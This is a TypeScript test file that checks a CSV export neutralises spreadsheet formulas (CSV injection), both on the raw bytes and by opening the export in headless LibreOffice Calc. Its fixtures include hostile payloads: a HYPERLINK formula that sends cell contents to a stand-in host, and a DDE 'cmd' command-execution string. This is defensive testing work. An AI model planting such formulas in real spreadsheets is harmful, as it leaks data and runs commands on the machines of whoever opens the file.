// CSV exports cannot attack (OWASP "CSV injection"): text that a spreadsheet would read as a
// formula is written with a leading `'`, numbers stay numbers. Checked on the bytes, and in
// LibreOffice Calc (headless, Debian's package) when it is installed.
import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import Papa from 'papaparse';
import * as XLSX from '@e965/xlsx';
import { afterAll, describe, expect, it } from 'vitest';
import { neutralisedText, resultToCsv } from '../../src/results/export-csv';
import { useEngine } from '../helpers/engine';

const engine = useEngine();
const HOSTILE = `SELECT * FROM (VALUES
  ('=1+1', -5, 'Điện Biên'),
  ('+x', 3, '=HYPERLINK("http://127.0.0.2/?d="&A1,"Xem")'),
  ('@y', -2.5, '+cmd|'' /C calc''!A0'),
  ('-z', 0, '@SUM(1+1)'),
  (chr(9) || '=tab', 12, chr(13) || '=cr'),
  ('a=b', 1053, '-')
) t("Chữ", "Số", "=Ghi chú")`;

const soffice = (() => {
  try {
    return execFileSync('sh', ['-c', 'command -v soffice'], { encoding: 'utf8' }).trim() || null;
  } catch {
    return null;
  }
})();

describe('CSV export cannot carry a live formula', () => {
  it('neutralises text beginning with = + - @ tab or CR, and nothing else', () => {
    expect(['=1', '+1', '-x', '@a', '\tx', '\rx', 'a=1', ' =1', ''].map(neutralisedText)).toEqual(["'=1", "'+1", "'-x", "'@a", "'\tx", "'\rx", 'a=1', ' =1', '']);
  });

  it('writes text cells and column names safely, numbers (negative too) as numbers', async () => {
    const { table } = await engine().query(HOSTILE);
    const csv = resultToCsv(table);
    const rows = Papa.parse<string[]>(csv.slice(1).trim()).data;
    expect(rows).toEqual([
      ['Chữ', 'Số', "'=Ghi chú"],
      ["'=1+1", '-5.0', 'Điện Biên'],
      ["'+x", '3.0', `'=HYPERLINK("http://127.0.0.2/?d="&A1,"Xem")`],
      ["'@y", '-2.5', "'+cmd|' /C calc'!A0"],
      ["'-z", '0.0', "'@SUM(1+1)"],
      ["'\t=tab", '12.0', "'\r=cr"],
      ['a=b', '1053.0', "'-"],
    ].map((r) => r.map((v) => v.replace(/\.0$/, ''))));
  });

  const dir = mkdtempSync(path.join(os.tmpdir(), 'csv-calc-'));
  afterAll(() => rmSync(dir, { recursive: true, force: true }));

  /** The CSV opened in LibreOffice Calc with formulas evaluated (as Excel always does), and the
   *  cells of its first sheet read back from the xlsx it saves. */
  function openInCalc(name: string, csv: string) {
    const file = path.join(dir, `${name}.csv`);
    writeFileSync(file, csv);
    // 44 = comma, 34 = ", 76 = UTF-8, from line 1, …, token 13: evaluate formulas.
    execFileSync(soffice!, [`-env:UserInstallation=file://${dir}/profile`, '--headless', '--infilter=CSV:44,34,76,1,,1033,false,false,false,false,false,-1,true', '--convert-to', 'xlsx', '--outdir', dir, file], { stdio: 'pipe', timeout: 120_000 });
    const book = XLSX.read(readFileSync(path.join(dir, `${name}.xlsx`)), { cellFormula: true });
    return book.Sheets[book.SheetNames[0]!]!;
  }

  it.skipIf(!soffice)('opens in LibreOffice Calc with the texts as text and -5 as a number', async () => {
    const { table } = await engine().query(`SELECT * FROM (VALUES ('=1+1', -5), ('+x', 1), ('@y', 2), ('-z', 3)) t(s, n)`);
    const sheet = openInCalc('export', resultToCsv(table));
    const cell = (a: string) => ({ t: sheet[a]?.t, v: sheet[a]?.v, f: sheet[a]?.f });
    expect([cell('A2'), cell('A3'), cell('A4'), cell('A5')]).toEqual([
      { t: 's', v: "'=1+1", f: undefined },
      { t: 's', v: "'+x", f: undefined },
      { t: 's', v: "'@y", f: undefined },
      { t: 's', v: "'-z", f: undefined },
    ]);
    expect(cell('B2')).toEqual({ t: 'n', v: -5, f: undefined });
    // The same cells written as they are (what the export did before) become live formulas: the
    // check above would catch a return to that.
    const raw = openInCalc('raw', '\uFEFFs,n\r\n=1+1,-5\r\n');
    expect({ t: raw['A2']?.t, v: raw['A2']?.v, f: raw['A2']?.f }).toEqual({ t: 'n', v: 2, f: '1+1' });
  }, 240_000);
  if (!soffice) console.warn('LibreOffice (soffice) is not installed: the CSV export was checked on its bytes only (apt-get install -y libreoffice-calc runs the Calc check too).');
});
